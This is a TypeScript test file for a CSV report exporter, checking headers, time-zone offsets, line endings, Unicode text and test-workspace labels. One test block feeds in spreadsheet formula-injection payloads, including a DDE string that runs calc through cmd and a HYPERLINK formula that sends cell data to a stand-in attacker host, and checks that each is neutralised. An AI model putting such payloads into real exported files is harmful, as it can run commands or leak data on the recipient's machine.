import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvParts } from '../../../src-main/exports/csv';
import {
  type Cell,
  type Column,
  type Heading,
  type Report,
  reportName,
} from '../../../src-main/exports/report';
import { parseCsv } from '../../helpers/parse-csv';

const heading: Heading = {
  workspaceId: 'a-workspace',
  testClock: false,
  cardName: 'Mine',
  timeZone: 'Europe/Berlin',
  from: '2026-03-28',
  to: '2026-03-29',
};

const columns: readonly Column[] = [
  { title: 'When', kind: 'instant', printed: 'When' },
  { title: 'Words', kind: 'text', printed: 'Words' },
  { title: 'Credits', kind: 'figure', printed: 'Credits' },
  { title: 'Price (US dollars)', kind: 'money', printed: 'Price' },
];

function reportOf(...pages: readonly (readonly Cell[])[][]): Report {
  return {
    kind: 'statement',
    title: 'Statement',
    columns,
    count: pages.flat().length,
    pages: function* () {
      yield* pages;
    },
    totals: () => [],
  };
}

async function textOf(report: Report, told: Heading = heading): Promise<string> {
  let text = '';
  for await (const part of csvParts(report, told)) text += part;
  return text;
}

async function rowsOf(report: Report, told: Heading = heading): Promise<string[][]> {
  const text = await textOf(report, told);
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parseCsv(text.slice(1));
}

const at = Date.parse('2026-03-29T01:30:00Z');

test('a header in words with units, then a row a line, over all pages', async () => {
  expect(await rowsOf(reportOf([[at, 'a', 1, 1_250]], [], [[at, 'b', 2, 5]]))).toEqual([
    ['Workspace', 'When (Europe/Berlin)', 'Words', 'Credits', 'Price (US dollars)'],
    ['a-workspace', '2026-03-29T03:30:00.000+02:00', 'a', '1', '12.50'],
    ['a-workspace', '2026-03-29T03:30:00.000+02:00', 'b', '2', '0.05'],
  ]);
});

test('an instant has the offset of its day, winter and summer', async () => {
  const winter = Date.parse('2026-03-29T00:59:59.999Z');
  const [, first, second] = await rowsOf(
    reportOf([
      [winter, '', 0, 0],
      [winter + 1, '', 0, 0],
    ]),
  );
  expect(first?.[1]).toBe('2026-03-29T01:59:59.999+01:00');
  expect(second?.[1]).toBe('2026-03-29T03:00:00.000+02:00');
});

test('what is not known is empty, and 0 is not', async () => {
  const [, first, second] = await rowsOf(
    reportOf([
      [at, null, null, null],
      [at, '', 0, 0],
    ]),
  );
  expect(first?.slice(2)).toEqual(['', '', '']);
  expect(second?.slice(2)).toEqual(['', '0', '0.00']);
});

test('every row ends with CR LF, the last one too', async () => {
  const text = await textOf(reportOf([[at, 'a', 1, 1]]));
  expect(text.match(/\r\n/g)).toHaveLength(2);
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

test('without lines there is the header alone', async () => {
  expect(await rowsOf(reportOf())).toHaveLength(1);
});

describe('no cell is a formula', () => {
  test.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r\n=1+1',
    '  =1+1',
    '\u0000=1+1',
    '\u202E=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
  ])('%j', async (text) => {
    const [, row] = await rowsOf(reportOf([[at, text, 1, 1]]));
    expect(row?.[2]).toMatch(/^'/);
  });
  test('whatever is written, it is one cell of one row, and never starts like a formula', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('', '=', '"', ',', '\n', '\r'),
        async (text, before) => {
          const rows = await rowsOf(reportOf([[at, before + text, 1, 1]]));
          expect(rows.map((row) => row.length)).toEqual([5, 5]);
          expect(rows[1]?.[2]).not.toMatch(/^[\s=+\-@]/);
        },
      ),
    );
  });
});

test('words stay as they are, quotes, commas and other alphabets included', async () => {
  const words = 'a "fox", жёлтый 狐 🦊👩‍👩‍👧';
  const [, row] = await rowsOf(reportOf([[at, words, 1, 1]]));
  expect(row?.[2]).toBe(words);
});

describe('a test workspace', () => {
  const told = { ...heading, testClock: true };
  test('is marked in the header, even without a line, and in the name of the file', async () => {
    const [header] = await rowsOf(reportOf(), told);
    expect(header?.[0]).toBe('TEST WORKSPACE (its clock is made up)');
    expect(reportName(reportOf(), told)).toBe('tally-test-statement-2026-03-28-to-2026-03-29');
  });
  test('and no other one is', async () => {
    const text = await textOf(reportOf([[at, 'a', 1, 1]]));
    expect(text).not.toMatch(/test/i);
    expect(reportName(reportOf(), heading)).toBe('tally-statement-2026-03-28-to-2026-03-29');
  });
});
